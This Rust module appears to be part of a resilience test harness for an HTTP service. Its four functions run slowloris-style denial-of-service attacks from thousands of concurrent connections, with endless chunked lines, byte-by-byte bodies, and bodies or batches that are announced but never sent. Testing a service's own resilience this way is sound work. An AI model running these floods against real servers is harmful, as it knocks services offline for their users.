//! Attacks with request bodies.

use std::time::Duration;

use super::Target;
use super::wire::{connect, crowd, until_closed, write};

const BATCH: &[u8] = b"POST /v1/commands HTTP/1.1\r\nHost: localhost\r\n\
    Content-Type: application/x-ndjson\r\nTransfer-Encoding: chunked\r\n\r\n";
const COMMAND: &[u8] = b"POST /v1/streams/order-slow/ApproveOrder HTTP/1.1\r\nHost: localhost\r\n\
    Content-Type: application/json\r\nContent-Length: 262144\r\n\r\n";

/// Lines that never end.
pub(super) async fn lines(target: Target) {
    let target = &target;
    crowd(2_000, |_| async move {
        let Some(mut stream) = connect(&target.authority).await else {
            return;
        };
        let mut sent = write(&mut stream, BATCH).await;
        let mut chunk = b"1f40\r\n".to_vec();
        chunk.extend([b'x'; 0x1f40]);
        chunk.extend(b"\r\n");
        for _ in 0..31 {
            if sent.is_none() {
                return;
            }
            sent = write(&mut stream, &chunk).await;
        }
        until_closed(stream).await;
    })
    .await;
}

/// Bodies that arrive byte by byte.
pub(super) async fn slow(target: Target) {
    let target = &target;
    crowd(1_000, |_| async move {
        let Some(mut stream) = connect(&target.authority).await else {
            return;
        };
        let mut sent = write(&mut stream, COMMAND).await;
        while sent.is_some() {
            tokio::time::sleep(Duration::from_millis(500)).await;
            sent = write(&mut stream, b" ").await;
        }
    })
    .await;
}

/// Bodies that are announced and never sent.
pub(super) async fn promised(target: Target) {
    let target = &target;
    crowd(1_000, |_| async move {
        if let Some(mut stream) = connect(&target.authority).await
            && write(&mut stream, COMMAND).await.is_some()
        {
            until_closed(stream).await;
        }
    })
    .await;
}

/// Batches without a single line.
pub(super) async fn resting(target: Target) {
    let target = &target;
    crowd(1_000, |_| async move {
        if let Some(mut stream) = connect(&target.authority).await
            && write(&mut stream, BATCH).await.is_some()
        {
            until_closed(stream).await;
        }
    })
    .await;
}
